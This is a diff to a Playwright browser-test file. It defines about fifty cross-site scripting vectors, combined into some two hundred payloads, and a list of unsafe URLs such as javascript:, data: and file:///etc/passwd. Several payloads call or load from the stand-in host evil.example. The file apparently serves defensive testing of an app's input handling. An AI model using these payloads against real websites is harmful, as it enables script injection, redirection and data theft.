@@ -2,7 +2,82 @@
 import type { BrowserContextOptions, Page } from '@playwright/test';
 import { expect, test as base } from '../fixtures.ts';
 import { Listener } from '../support/listener.ts';
-import { UNSAFE_ADDRESSES, PAYLOADS } from '../support/payloads.ts';
+
+/** Code that a page would run if it treated text as markup or code. The tests define `pwned`. */
+const CODE = ['pwned()', 'top.pwned()', "fetch('https://evil.example/')", "location='https://evil.example/'"];
+
+/** Markup that runs code. `CODE` is replaced by the code. */
+const VECTORS = [
+  '<script>CODE</script>',
+  '<script src=//evil.example/x.js></script>',
+  '<img src=x onerror="CODE">',
+  '<img src="https://evil.example/x.png" onload="CODE">',
+  '<svg onload="CODE">',
+  '<svg><script>CODE</script></svg>',
+  '<svg><animate onbegin="CODE" attributeName=x dur=1s>',
+  '<math><mtext><img src=x onerror="CODE"></mtext></math>',
+  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
+  '<iframe src="javascript:CODE"></iframe>',
+  '<object data="javascript:CODE"></object>',
+  '<embed src="data:text/html,<script>CODE</script>">',
+  '<details open ontoggle="CODE">x</details>',
+  '<video><source onerror="CODE"></video>',
+  '<audio src=x onerror="CODE"></audio>',
+  '<input autofocus onfocus="CODE">',
+  '<body onload="CODE">',
+  '<a href="javascript:CODE">x</a>',
+  '<form action="javascript:CODE"><button>x</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css"</style>',
+  '<template><script>CODE</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=CODE>"></noscript>',
+  '<marquee onstart="CODE">x</marquee>',
+  '"><script>CODE</script>',
+  "'-CODE-'",
+  '{{constructor.constructor("CODE")()}}',
+  '${CODE}',
+  '</title><script>CODE</script>',
+  '</script><script>CODE</script>',
+  ']]><script>CODE</script>',
+  '<!--><script>CODE</script>-->',
+  '\u202E<script>CODE</script>',
+  'javascript:CODE',
+  '%3Cscript%3ECODE%3C/script%3E',
+  '&lt;script&gt;CODE&lt;/script&gt;',
+  '<scr<script>ipt>CODE</scr</script>ipt>',
+  '<a ping="https://evil.example/" href="https://evil.example/" target=_self>x</a>',
+  '<x contenteditable onblur="CODE" tabindex=1 autofocus>x</x>',
+  '\u0000<script>CODE</script>',
+  '<div style="background:url(https://evil.example/x.png)">x</div>',
+  '<xmp><p title="</xmp><svg/onload=CODE>"></xmp>',
+  '<isindex type=image src=1 onerror="CODE">',
+  '<portal src="https://evil.example/"></portal>',
+  '<button popovertarget=x onbeforetoggle="CODE">x</button>',
+  '<select><option><style></option></select><img src=x onerror="CODE"></style>',
+  '<frameset onload="CODE">',
+  '<link rel=prerender href="https://evil.example/">',
+];
+
+/** Two hundred texts that do harm if they are treated as markup or code. */
+const PAYLOADS: readonly string[] = VECTORS.flatMap((vector) =>
+  CODE.map((code) => vector.replaceAll('CODE', code)),
+);
+
+/** Addresses that must not be opened or loaded. */
+const UNSAFE_ADDRESSES: readonly string[] = [
+  'javascript:pwned()',
+  'JaVaScRiPt:pwned()',
+  ' javascript:pwned()',
+  'java\nscript:pwned()',
+  'data:text/html,<script>parent.pwned()</script>',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
+  'vbscript:pwned()',
+  'blob:https://evil.example/x',
+  'file:///etc/passwd',
+  'filesystem:https://evil.example/x',
+];
 
 type StorageState = Exclude<BrowserContextOptions['storageState'], string | undefined>;
 
